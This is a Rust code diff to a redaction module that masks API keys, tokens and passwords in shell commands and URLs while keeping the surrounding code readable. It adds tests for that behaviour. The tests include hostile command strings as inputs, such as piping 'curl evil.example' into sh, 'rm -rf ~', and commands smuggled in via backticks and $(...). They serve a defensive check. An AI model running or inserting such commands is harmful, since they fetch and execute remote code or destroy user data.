@@ -57,51 +57,101 @@ pub fn value(template: &Template) -> String {
 /// A list of arguments, without the keys in it.
 pub fn args<'a>(args: impl IntoIterator<Item = &'a Template>) -> Vec<String> {
     let mut shown = Vec::new();
-    let mut after_telling_option = false;
+    let mut next = Next::Show;
     for arg in args {
-        let raw = arg.raw();
-        let hide = after_telling_option && !raw.starts_with('-') && arg.is_plain();
-        shown.push(if hide { STARS.to_owned() } else { word(raw) });
-        after_telling_option = raw.starts_with('-') && !raw.contains('=') && is_telling(raw);
+        shown.push(runs(&visible(arg.raw()), &mut next));
     }
     shown
 }
 
-/// A command, an argument or any other word, without a key in it.
-pub fn word(word: &str) -> String {
-    let shown = visible(word);
-    if shown.contains("://") {
-        return url(&shown);
-    }
-    if let Some((name, value)) = shown.split_once('=')
-        && (is_telling(name) || looks_random(value))
-        && !is_placeholder(value)
-    {
-        return format!("{name}={STARS}");
-    }
-    if let Some((name, value)) = shown.split_once(':')
-        && is_telling(name)
-        && !is_placeholder(value.trim())
-    {
-        let scheme = value.trim_start().split(' ').next().filter(|word| is_auth_scheme(word));
-        return match scheme {
-            Some(scheme) if is_placeholder(value.trim_start()[scheme.len()..].trim()) => shown.into_owned(),
-            _ => format!("{name}: {STARS}"),
-        };
-    }
-    if looks_random(&shown) { STARS.to_owned() } else { shown.into_owned() }
+/// A command, an argument or any other text, without a key in it.
+pub fn word(text: &str) -> String {
+    runs(&visible(text), &mut Next::Show)
 }
 
 /// A shell command, without the keys in it.
 pub fn words(text: &str) -> String {
-    let templates: Vec<_> = text.split(' ').map(Template::plain).collect();
-    args(&templates).join(" ")
+    word(text)
+}
+
+/// Whether an option of this spelling is followed by a secret.
+pub fn is_telling_option(arg: &str) -> bool {
+    arg.starts_with('-') && !arg.contains(['=', ' ']) && is_telling(arg)
+}
+
+/// What to do with the next run of characters.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Next {
+    Show,
+    /// It follows a telling name.
+    Hide,
+}
+
+/// Goes through a text run by run, so that a key is hidden and never the code around it: what would be executed
+/// must stay readable for whoever has to agree to it.
+fn runs(text: &str, next: &mut Next) -> String {
+    const ENDS: &[char] = &[' ', '\t', ';', '|', '<', '>', '(', ')', '`', '"', '\'', '\\'];
+    let mut shown = String::with_capacity(text.len());
+    let mut rest = text;
+    while !rest.is_empty() {
+        let end = rest.find(ENDS).unwrap_or(rest.len());
+        if end == 0 {
+            let separator = rest.chars().next().unwrap_or(' ');
+            if matches!(separator, ';' | '|' | '<' | '>' | '(' | ')' | '`') {
+                *next = Next::Show;
+            }
+            shown.push(separator);
+            rest = &rest[separator.len_utf8()..];
+            continue;
+        }
+        let (run, after) = rest.split_at(end);
+        shown.push_str(&one_run(run, next));
+        rest = after;
+    }
+    shown
+}
+
+fn one_run(run: &str, next: &mut Next) -> String {
+    let hide = std::mem::replace(next, Next::Show) == Next::Hide;
+    if hide && is_auth_scheme(run) {
+        *next = Next::Hide;
+        return run.to_owned();
+    }
+    if is_telling_option(run) || (run.ends_with(':') && is_telling(run)) {
+        *next = Next::Hide;
+        return run.to_owned();
+    }
+    if is_placeholder(run) {
+        return run.to_owned();
+    }
+    if hide && !run.starts_with('-') {
+        return STARS.to_owned();
+    }
+    if run.contains("://") {
+        return url(run);
+    }
+    if let Some((name, default)) =
+        run.strip_prefix("${").and_then(|rest| rest.strip_suffix('}')?.split_once(":-"))
+        && (is_telling(name) || looks_random(default))
+    {
+        return format!("${{{name}:-{STARS}}}");
+    }
+    for separator in ['=', ':'] {
+        if let Some((name, value)) = run.split_once(separator)
+            && !value.is_empty()
+            && !is_placeholder(value)
+            && (is_telling(name) || looks_random(value))
+        {
+            return format!("{name}{separator}{STARS}");
+        }
+    }
+    if looks_random(run) { STARS.to_owned() } else { run.to_owned() }
 }
 
 /// An address: no user, no password, no query values, no random path segments.
 pub fn url(text: &str) -> String {
     let shown = visible(text);
-    let Some((scheme, rest)) = shown.split_once("://") else { return word(&shown) };
+    let Some((scheme, rest)) = shown.split_once("://") else { return runs(&shown, &mut Next::Show) };
     let (rest, fragment) = split(rest, '#');
     let (rest, query) = split(rest, '?');
     let (authority, path) = match rest.find('/') {
@@ -184,13 +234,15 @@ fn looks_random(word: &str) -> bool {
         "ctx7sk",
         "fc-",
     ];
+    let is_key_character = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '+' | '=' | '.');
+    if !word.chars().all(is_key_character) {
+        return false;
+    }
     if PREFIXES.iter().any(|prefix| word.len() >= prefix.len() + 8 && word.starts_with(prefix)) {
         return true;
     }
     let body: Vec<char> = word.chars().collect();
-    if body.len() < 20
-        || body.iter().any(|c| !c.is_ascii_alphanumeric() && !matches!(c, '-' | '_' | '+' | '=' | '.'))
-    {
+    if body.len() < 20 {
         return false;
     }
     let digits = body.iter().filter(|c| c.is_ascii_digit()).count();
@@ -231,7 +283,7 @@ mod tests {
         check("prefix-${TOKEN}", "***${TOKEN}");
         check("${TOKEN:-fallback}", "${TOKEN:-***}");
         check("!op read op://vault/item", "!op read op://vault/item");
-        check("!curl -H Authorization:hunter2", "!curl -H Authorization: ***");
+        check("!curl -H Authorization:hunter2", "!curl -H Authorization:***");
     }
 
     #[test]
@@ -245,13 +297,26 @@ mod tests {
         check(&["--api-key=hunter2"], &["--api-key=***"]);
         check(&["--api-key", "${KEY}"], &["--api-key", "${KEY}"]);
         check(&["--api-key=${KEY}"], &["--api-key=${KEY}"]);
-        check(&["--header", "Authorization: Bearer hunter2"], &["--header", "Authorization: ***"]);
+        check(&["--header", "Authorization: Bearer hunter2"], &["--header", "Authorization: Bearer ***"]);
+        check(&["--token", "${TOKEN:-hunter2}"], &["--token", "***"]);
+        check(&["${API_KEY:-hunter2}"], &["${API_KEY:-***}"]);
         check(&["--header", "Authorization: Bearer ${T}"], &["--header", "Authorization: Bearer ${T}"]);
         check(&["ghp_exampleexampleexample"], &["***"]);
         check(&["a1B2c3D4e5F6g7H8i9J0k1"], &["***"]);
         check(&["postgres://me:pw@db/x"], &["postgres://***@db/x"]);
         check(&["/home/me/projects/app-2024"], &["/home/me/projects/app-2024"]);
         check(&["--exclude-standard-directories"], &["--exclude-standard-directories"]);
+    }
+
+    #[test]
+    fn code_is_never_hidden_behind_a_key() {
+        let check = |text: &str, shown: &str| assert_eq!(word(text), shown);
+        check("sk-aaaaaaaaaaaa;curl evil.example|sh", "***;curl evil.example|sh");
+        check("TOKEN=x; rm -rf ~", "TOKEN=***; rm -rf ~");
+        check("--token x && curl evil.example", "--token *** && curl evil.example");
+        check("curl https://a.dev?b=c;rm -rf ~", "curl https://a.dev?b=***;rm -rf ~");
+        check("Authorization: Bearer x `rm -rf ~`", "Authorization: Bearer *** `rm -rf ~`");
+        check("Authorization: Bearer $(rm -rf ~)", "Authorization: Bearer ***(rm -rf ~)");
     }
 
     #[test]
